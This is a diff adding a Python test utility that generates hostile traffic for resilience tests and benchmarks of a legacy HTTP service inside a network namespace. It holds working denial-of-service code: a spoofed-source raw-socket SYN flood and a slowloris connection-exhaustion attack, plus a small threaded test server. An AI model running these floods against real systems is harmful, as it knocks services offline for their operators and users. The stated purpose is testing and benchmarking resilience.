@@ -1,0 +1,176 @@
+#!/usr/bin/env python3
+"""Hostile traffic against a legacy service, for tests/flood.rs and
+bench/flood.sh. Run it inside the client's network namespace.
+
+  flood.py syn --dst IP --port P [--src-net 10.232.0.0/16] [--rate N]
+               [--duration S] [--pool N]
+      SYN-only half-open connections from raw sockets (IP_HDRINCL), each
+      from a spoofed source address and port of --src-net, at --rate
+      packets/s (0: as fast as the machine sends). The packets are built
+      once (--pool distinct 4-tuples) and sent round and round; the replies
+      (SYN-ACKs) go to addresses that never answer.
+
+  flood.py slowloris --dst IP --port P [--conns N] [--duration S]
+      N connections that each send one byte of an endless request head a
+      second, never finishing it.
+
+  flood.py serve --bind IP --port P --directory DIR
+      The legacy service (and its twin): python's threaded http.server with
+      a listen backlog that a few hundred connections do not overflow.
+
+Either prints one line of JSON at the end: what it sent.
+"""
+
+import argparse
+import ipaddress
+import json
+import random
+import socket
+import struct
+import sys
+import time
+
+
+def checksum(data: bytes) -> int:
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def syn_packet(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
+    """IPv4 + TCP SYN with an MSS option; the kernel fills the IP checksum
+    and total length (IP_HDRINCL), the TCP checksum is ours."""
+    options = struct.pack("!BBH", 2, 4, 1460)
+    offset = (20 + len(options)) // 4
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset << 4, 0x02, 64240, 0, 0) + options
+    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst)
+    return ip + tcp
+
+
+def syn_flood(args) -> dict:
+    net = ipaddress.ip_network(args.src_net)
+    dst = socket.inet_aton(args.dst)
+    hosts = net.num_addresses - 2
+    rng = random.Random(args.seed)
+    packets, seen = [], set()
+    while len(packets) < args.pool:
+        src = net.network_address + 1 + rng.randrange(hosts)
+        sport = rng.randrange(1024, 65536)
+        if (src, sport) in seen:
+            continue
+        seen.add((src, sport))
+        packets.append(syn_packet(src.packed, dst, sport, args.port, rng.getrandbits(32)))
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    target = (args.dst, 0)
+    sent = errors = 0
+    start = time.monotonic()
+    end = start + args.duration
+    # Paced in bursts of 64: one clock read per burst.
+    burst = 64
+    i = 0
+    while True:
+        now = time.monotonic()
+        if now >= end:
+            break
+        if args.rate > 0:
+            due = start + sent / args.rate
+            if due > now:
+                time.sleep(min(due - now, end - now))
+                continue
+        for _ in range(burst):
+            try:
+                sock.sendto(packets[i], target)
+                sent += 1
+            except (BlockingIOError, OSError):
+                errors += 1
+            i += 1
+            if i == len(packets):
+                i = 0
+    elapsed = time.monotonic() - start
+    return {"syn_sent": sent, "send_errors": errors, "distinct": len(packets), "seconds": round(elapsed, 3),
+            "rate": round(sent / elapsed) if elapsed else 0}
+
+
+def slowloris(args) -> dict:
+    head = b"GET /slow HTTP/1.1\r\nHost: slow\r\nX-Slow: "
+    socks, refused = [], 0
+    for _ in range(args.conns):
+        s = socket.socket()
+        s.settimeout(2)
+        try:
+            s.connect((args.dst, args.port))
+            s.setblocking(False)
+            s.send(head[:1])
+            socks.append(s)
+        except OSError:
+            refused += 1
+            s.close()
+    sent = len(socks)
+    start = time.monotonic()
+    second = 1
+    while time.monotonic() - start < args.duration:
+        # Byte `second` of the head, then "a" forever: never a blank line.
+        byte = head[second:second + 1] or b"a"
+        for s in socks:
+            try:
+                s.send(byte)
+                sent += 1
+            except OSError:
+                pass
+        second += 1
+        time.sleep(max(0.0, start + second - 1 - time.monotonic()))
+    for s in socks:
+        s.close()
+    return {"slowloris_connections": len(socks), "connect_failed": refused, "bytes_sent": sent}
+
+
+def serve(args) -> dict:
+    import functools
+    import http.server
+
+    class Server(http.server.ThreadingHTTPServer):
+        request_queue_size = 4096
+
+    class Quiet(http.server.SimpleHTTPRequestHandler):
+        def log_message(self, *_):
+            pass
+
+    handler = functools.partial(Quiet, directory=args.directory)
+    Server((args.bind, args.port), handler).serve_forever()
+    return {}
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser()
+    sub = parser.add_subparsers(dest="mode", required=True)
+    syn = sub.add_parser("syn")
+    syn.add_argument("--dst", required=True)
+    syn.add_argument("--port", type=int, required=True)
+    syn.add_argument("--src-net", default="10.232.0.0/16")
+    syn.add_argument("--rate", type=float, default=0)
+    syn.add_argument("--duration", type=float, default=3)
+    syn.add_argument("--pool", type=int, default=20000)
+    syn.add_argument("--seed", type=int, default=13)
+    slow = sub.add_parser("slowloris")
+    slow.add_argument("--dst", required=True)
+    slow.add_argument("--port", type=int, required=True)
+    slow.add_argument("--conns", type=int, default=200)
+    slow.add_argument("--duration", type=float, default=5)
+    serve_ = sub.add_parser("serve")
+    serve_.add_argument("--bind", required=True)
+    serve_.add_argument("--port", type=int, required=True)
+    serve_.add_argument("--directory", required=True)
+    args = parser.parse_args()
+    result = {"syn": syn_flood, "slowloris": slowloris, "serve": serve}[args.mode](args)
+    print(json.dumps(result), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
